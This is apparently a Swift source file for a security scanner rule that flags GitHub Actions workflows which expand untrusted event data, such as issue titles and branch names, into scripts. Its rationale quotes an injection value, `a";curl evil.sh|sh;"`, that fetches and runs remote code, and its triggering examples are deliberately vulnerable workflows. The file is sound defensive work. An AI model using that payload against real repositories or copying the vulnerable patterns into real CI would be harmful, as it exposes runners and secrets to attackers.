import Foundation
import InfragateParsers

/// `${{ github.event.issue.title }}` in `run:` is pasted into the script before the shell parses it:
/// whoever writes the title writes code.
struct ScriptInjection: Rule {
    /// Event fields anyone who can open an issue, comment, name a branch or push to a fork controls
    /// (the GitHub Security Lab list of untrusted input). Indexes may be `.*` or `[n]`.
    static let untrustedContext = NSRegularExpression(contextPattern: [
        #"github\.head_ref"#,
        #"github\.event\.(issue|pull_request|discussion)\.(title|body)"#,
        #"github\.event\.(comment|review|review_comment|discussion_comment)\.body"#,
        #"github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)"#,
        #"github\.event\.(workflow_run\.)?head_commit\.(message|author\.(email|name))"#,
        #"github\.event\.commits(\.\*|\[[^\]]*\])?\.(message|author\.(email|name))"#,
        #"github\.event\.pages(\.\*|\[[^\]]*\])?\.page_name"#,
        #"github\.event\.workflow_run\.(head_branch|display_title)"#,
        #"github\.event\.workflow_run\.pull_requests(\.\*|\[[^\]]*\])?\.head\.ref"#,
        // The JSON of an object holding any of those: quotes in a title end a `'…'` the JSON was pasted into.
        #"tojson\(\s*github(\.event(\.(issue|pull_request|comment|review|review_comment|discussion|discussion_comment|head_commit|commits|workflow_run|pages))?)?\s*\)"#,
    ].joined(separator: "|"))

    let description = RuleDescription(
        id: "GHA-SCRIPT-INJECTION", title: "Untrusted event data expanded into a script", severity: .high, cwe: 94,
        owasp: "A03:2021 Injection",
        checklist: "CI/CD › Untrusted input never interpolated into scripts",
        rationale: """
            The runner substitutes `${{ … }}` into the `run:` script (or into an action input that is run as code: \
            `actions/github-script`'s `script`, `azure/cli`'s `inlineScript`, `appleboy/ssh-action`'s `script`, \
            `mikefarah/yq`'s `cmd`…) as text, before the shell or interpreter parses it. An issue title, a pull \
            request body, a comment or a branch name such as `a";curl evil.sh|sh;"` then runs as code on the runner \
            (or the deploy host), with the job's `GITHUB_TOKEN` and every secret the job can read. Moving the value \
            into `env:` does not help while the script still reads it as `${{ env.X }}`: that is substituted the \
            same way; only the shell's own `"$X"` is safe. High: anyone who can open an issue or a pull request \
            can trigger it; critical in practice on `issue_comment` and `pull_request_target`, which run with \
            write tokens and secrets.
            """,
        recommendation: "Pass the value through an environment variable and quote it in the shell: `env: TITLE: ${{ github.event.issue.title }}` then `echo \"$TITLE\"` (the shell's variable, never `${{ env.TITLE }}`).",
        equivalents: [.checkov("CKV_GHA_2"), Equivalent(tool: "zizmor", id: "template-injection"), .kics("Run Block Injection"), .kics("Script Block Injection"), Equivalent(tool: "poutine", id: "injection")],
        triggering: [
            RuleExample("""
                on:
                  issues:
                    types: [opened]
                jobs:
                  triage:
                    runs-on: ubuntu-latest
                    steps:
                      - name: Greet
                        run: |
                          echo "Thanks for the report"
                ↓          echo "Title: ${{ github.event.issue.title }}"
                      - name: Branch
                ↓        run: git push origin "${{ github.head_ref }}"
                """, path: ".github/workflows/ci.yml"),
            RuleExample("""
                on: pull_request_target
                jobs:
                  label:
                    runs-on: ubuntu-latest
                    steps:
                      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
                        with:
                          script: |
                            const labels = []
                ↓            if ("${{ github.event.pull_request.body }}".includes("bug")) labels.push("bug")
                ↓            const event = JSON.parse('${{ toJSON(github.event) }}')
                """, path: ".github/workflows/ci.yml"),
            RuleExample("""
                name: Comment
                runs:
                  using: composite
                  steps:
                    - shell: bash
                ↓      run: echo "Reply to ${{ github.event.comment.body }}"
                """, path: ".github/actions/reply/action.yml"),
            RuleExample("""
                on:
                  workflow_call:
                env:
                  PR_TITLE: ${{ github.event.pull_request.title }}
                jobs:
                  deploy:
                    runs-on: ubuntu-latest
                    env:
                      BRANCH: ${{ github.event['pull_request']['head']['ref'] }}
                    steps:
                      - uses: azure/cli@089eac9d8cc39f5d003e94f8b65efc51076c9cbd
                        with:
                          inlineScript: |
                            az group list
                ↓            az tag create --resource-id "$ID" --tags branch="${{ env.BRANCH }}"
                      - name: Announce
                ↓        run: echo "${{ env['PR_TITLE'] }}"
                      - uses: appleboy/ssh-action@029f5b4aeeeb58fdfe1410a5d17f967dacf36262
                        with:
                ↓          script: cd /srv && ./deploy.sh "${{ GitHub.Head_Ref }}"
                """, path: ".github/workflows/deploy.yml"),
        ],
        nonTriggering: [
            RuleExample("""
                on: pull_request_target
                env:
                  PR_TITLE: ${{ github.event.pull_request.title }}
                jobs:
                  deploy:
                    runs-on: ubuntu-latest
                    steps:
                      - uses: azure/cli@089eac9d8cc39f5d003e94f8b65efc51076c9cbd
                        env:
                          BRANCH: ${{ github.event.pull_request.head.ref }}
                        with:
                          inlineScript: az tag create --resource-id "$ID" --tags branch="$BRANCH"
                      - name: Constant overrides the untrusted value
                        env:
                          PR_TITLE: release
                        run: echo "${{ env.PR_TITLE }} $PR_TITLE"
                      - uses: peter-evans/create-or-update-comment@71345be0265236311c031f5c7866368bd1eff043
                        with:
                          body: Thanks for `${{ github.event.pull_request.title }}`
                """, path: ".github/workflows/deploy.yml"),
            RuleExample("""
                name: Comment
                runs:
                  using: composite
                  steps:
                    - shell: bash
                      env:
                        BODY: ${{ github.event.comment.body }}
                      run: echo "Reply to $BODY"
                """, path: ".github/actions/reply/action.yml"),
            RuleExample("""
            on: issues
            jobs:
              triage:
                runs-on: ubuntu-latest
                steps:
                  - name: Greet
                    env:
                      TITLE: ${{ github.event.issue.title }}
                    run: echo "Title -- $TITLE"
                  - run: echo "Issue ${{ github.event.issue.number }} at ${{ github.sha }} ${{ toJSON(github.event.issue.labels.*.name) }}"
            """, path: ".github/workflows/ci.yml"),
        ])

    /// `env.NAME` or `env['NAME']` (after index rewriting, the former) in an expression.
    private static let environmentReference = NSRegularExpression(contextPattern: #"(?<![A-Za-z0-9_.])env\.([A-Za-z_][A-Za-z0-9_-]*)"#)

    func check(_ workflow: Workflow) -> [Violation] {
        let workflowEnvironment = EnvironmentLayer(workflow.root["env"])
        return workflow.jobs.flatMap { job in
            let jobEnvironment = EnvironmentLayer(job.node["env"])
            return job.steps.flatMap { step in
                // `${{ env.X }}` in a step's own `env` would read the job's value, not its sibling's; in its
                // script every level is visible, the innermost winning.
                let environment = [EnvironmentLayer(step.node["env"]), jobEnvironment, workflowEnvironment]
                return step.scripts.flatMap { violations(in: $0, of: step, environment: environment, locator: workflow.locator) }
            }
        }
    }

    /// The variables of one `env` mapping, by lowercased name (the `env` context is case-insensitive),
    /// each with the untrusted context its value expands, or nil: a variable set to a constant or to
    /// trusted data hides an outer untrusted one of the same name.
    private struct EnvironmentLayer {
        let variables: [String: String?]
        let holdsUntrustedData: Bool

        init(_ env: YAMLNode?) {
            var variables: [String: String?] = [:]
            for entry in env?.entries ?? [] {
                let value = entry.value.string ?? ""
                variables[entry.key.lowercased()] = .some(Expression.all(in: value).lazy.compactMap {
                    $0.firstMatch(of: ScriptInjection.untrustedContext)?.lowercased()
                }.first)
            }
            self.variables = variables
            holdsUntrustedData = variables.values.contains { $0 != nil }
        }
    }

    /// The untrusted context a variable holds where the layers (innermost first) are visible.
    private static func untrustedContext(of name: String, in environment: [EnvironmentLayer]) -> String? {
        for layer in environment {
            if let held = layer.variables[name] { return held }
        }
        return nil
    }

    /// One violation per untrusted context and script, on the line of its first expansion: a context
    /// expanded directly, or an environment variable set from one and expanded as `${{ env.X }}`
    /// (text substitution all the same, unlike the shell's `$X`).
    private func violations(in script: WorkflowStep.Script, of step: WorkflowStep, environment: [EnvironmentLayer],
                            locator: ScalarLocator) -> [Violation] {
        guard let text = script.node.scalar?.text else { return [] }
        let environmentMayCarry = environment.contains(where: \.holdsUntrustedData)
        var seen = Set<String>()
        let injections = Expression.all(in: text).compactMap { expression -> (fragment: Substring, context: String, via: String?)? in
            if let context = expression.firstMatch(of: Self.untrustedContext)?.lowercased() {
                return seen.insert(context).inserted ? (expression.fragment, context, nil) : nil
            }
            guard environmentMayCarry, expression.body.range(of: "env", options: .caseInsensitive) != nil,
                  let reference = expression.firstMatch(of: Self.environmentReference),
                  let name = reference.split(separator: ".").last.map({ $0.lowercased() }),
                  let context = Self.untrustedContext(of: name, in: environment),
                  seen.insert("env.\(name)").inserted else { return nil }
            return (expression.fragment, context, reference)
        }
        let lines = locator.lines(of: injections.map(\.fragment), in: script.node)
        return zip(injections, lines).map { injection, line in
            guard let via = injection.via else {
                return Violation(line: line, message: "\(step.displayName) expands untrusted `\(injection.context)` into its `\(script.key)`.",
                                 identity: "\(step.identity)|\(script.key)|\(injection.context)")
            }
            return Violation(line: line,
                             message: "\(step.displayName) expands `\(via)`, set from untrusted `\(injection.context)`, into its `\(script.key)`.",
                             identity: "\(step.identity)|\(script.key)|\(via.lowercased())")
        }
    }
}
